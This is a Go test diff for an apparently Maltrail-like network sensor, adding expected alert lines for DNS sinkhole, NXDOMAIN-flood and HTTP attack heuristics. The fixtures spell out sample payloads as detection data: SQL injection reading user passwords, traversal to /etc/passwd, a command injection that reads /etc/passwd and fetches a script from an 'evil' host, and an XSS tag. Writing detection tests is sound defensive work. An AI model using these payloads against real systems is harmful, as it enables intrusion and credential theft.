@@ -13,6 +13,7 @@ import (
 
 	"github.com/xtrail/xtrail/internal/testenv"
 	"github.com/xtrail/xtrail/pkg/dataplane"
+	"github.com/xtrail/xtrail/pkg/heuristics"
 	"github.com/xtrail/xtrail/pkg/maltrail"
 	"github.com/xtrail/xtrail/pkg/trails"
 )
@@ -58,7 +59,9 @@ func replay(t *testing.T, trailsFile string, sni bool, pcaps ...string) []string
 		Rules:    NameRules{Whitelist: trails.DefaultWhitelist(), CheckHostDomains: true, CheckSNI: sni},
 		Scan:     dataplane.Scan{Port: true, UDP: true, Infection: true, Window: 30 * time.Second},
 		Renderer: maltrail.Renderer{Sensor: "corpus", Loc: time.UTC},
-		Out:      c,
+		// and CHECK_MISSING_HOST
+		Heuristics: heuristics.Config{Use: true, CheckMissingHost: true, ScanWindow: 30},
+		Out:        c,
 	})
 	if err != nil {
 		t.Fatal(err)
@@ -66,8 +69,8 @@ func replay(t *testing.T, trailsFile string, sni bool, pcaps ...string) []string
 	return c.get()
 }
 
-// Lines derived by hand from spec §1.3-1.5, §2 and §5 for the corpus cases
-// that need no heuristic (pcap times are 2023-11-14 22:13:20 UTC onwards).
+// Lines derived by hand from spec §1.3-1.5, §2, §4 and §5 for the corpus
+// cases (pcap times are 2023-11-14 22:13:20 UTC onwards).
 const m = `"malware (test)" (static)`
 
 var corpusWant = map[string][]string{
@@ -147,6 +150,33 @@ var corpusWant = map[string][]string{
 	"infection_scan": {
 		`"2023-11-14 22:13:20.000000" corpus 10.0.0.5 53000 10.9.9.0 445 TCP PORT 445 "potential infection" (heuristic)`,
 	},
+	// heuristics (spec §4): the first A record of each answer is a
+	// sinkhole or parking trail
+	"dns_responses": {
+		`"2023-11-14 22:13:20.000000" corpus 8.8.8.8 53 10.0.0.66 50010 UDP DNS (sinkholed).com "sinkholed by testsink (malware)" (heuristic)`,
+		`"2023-11-14 22:13:21.000000" corpus 8.8.8.8 53 10.0.0.66 50011 UDP DNS (parked).com "parked site (suspicious)" (heuristic)`,
+	},
+	// 25 NXDOMAIN answers to a public client: the group "*.dgaparent.com"
+	// passes 20 at nx20 and lists the names counted after its first,
+	// sorted (the Rust sensor's order); nx21-nx24 start a new count
+	"dns_nxdomain_flood": {
+		`"2023-11-14 22:13:40.000000" corpus 8.8.8.8 53 203.0.113.5 40020 UDP DNS ` +
+			`(nx1,nx10,nx11,nx12,nx13,nx14,nx15,nx16,nx17,nx18,nx19,nx2,nx20,nx3,nx4,nx5,nx6,nx7,nx8,nx9).dgaparent.com ` +
+			`"excessive no such domain (suspicious)" (heuristic)`,
+	},
+	// one request per heuristic; trails %-encode "(" and ")" and show
+	// the path with "//" made "/", as Maltrail's do
+	"http_heuristics": {
+		`"2023-11-14 22:13:20.000000" corpus 10.0.0.66 50040 203.0.113.12 80 TCP URL sqli.example(/items.php?id=1%20union%20all%20select%20username,password%20from%20users) "potential sql injection (suspicious)" (heuristic)`,
+		`"2023-11-14 22:13:21.000000" corpus 10.0.0.66 50041 203.0.113.13 80 TCP URL trav.example(/download?file=../../../../etc/passwd) "potential directory traversal (suspicious)" (heuristic)`,
+		`"2023-11-14 22:13:22.000000" corpus 10.0.0.66 50042 203.0.113.14 80 TCP URL rce.example(/cgi?cmd=;cat%20/etc/passwd;wget%20http:/evil/x.sh) "potential remote code execution (suspicious)" (heuristic)`,
+		`"2023-11-14 22:13:23.000000" corpus 10.0.0.66 50043 203.0.113.15 80 TCP URL xss.example(/search?q=<script>alert%281%29</script>) "potential xss injection (suspicious)" (heuristic)`,
+		`"2023-11-14 22:13:24.000000" corpus 10.0.0.66 50044 203.0.113.16 80 TCP HTTP "postsqli.example(/submit \(POST q=1 UNION ALL SELECT pwd FROM users\))" "potential sql injection (suspicious)" (heuristic)`,
+		`"2023-11-14 22:13:25.000000" corpus 10.0.0.66 50045 198.51.100.99 80 TCP HTTP (198.51.100.99)/mirai.x86 "potential iot-malware download (suspicious)" (heuristic)`,
+		`"2023-11-14 22:13:26.000000" corpus 10.0.0.66 50046 203.0.113.17 80 TCP HTTP http://proxycheck.example/ "potential proxy probe (suspicious)" (heuristic)`,
+		`"2023-11-14 22:13:27.000000" corpus 10.0.0.66 50047 203.0.113.18 80 TCP URL dl.example(/setup.exe) "direct .exe download (suspicious)" (heuristic)`,
+		`"2023-11-14 22:13:28.000000" corpus 10.0.0.66 50048 203.0.113.19 80 TCP UA masscan(/1.0) "user agent (suspicious)" (heuristic)`,
+	},
 	// the second ClientHello names clean.example
 	"tls_sni": {
 		`"2023-11-14 22:13:20.000000" corpus 10.0.0.66 50400 203.0.113.30 443 TCP DNS tls-evil.example ` + m,
@@ -170,7 +200,7 @@ type manifestCase struct {
 	Expect []string `json:"expect"`
 }
 
-// TestCorpus replays each corpus case that needs no heuristic and compares
+// TestCorpus replays each corpus case the agent decides and compares
 // whole lines; it also applies the manifest's own check.
 func TestCorpus(t *testing.T) {
 	dir := filepath.Join(testenv.SharedDir(t), "corpus")
@@ -187,8 +217,8 @@ func TestCorpus(t *testing.T) {
 		byName[c.Name] = c
 	}
 	trailsFile := filepath.Join(dir, "trails.csv")
-	if len(corpusWant) != 18 {
-		t.Fatalf("%d cases: want 18, the nineteen corpus cases of the chain except vlan (TestCorpusVLAN)", len(corpusWant))
+	if len(corpusWant) != 21 {
+		t.Fatalf("%d cases: want 21, the 22 corpus cases except vlan (TestCorpusVLAN)", len(corpusWant))
 	}
 	for name, want := range corpusWant {
 		t.Run(name, func(t *testing.T) {
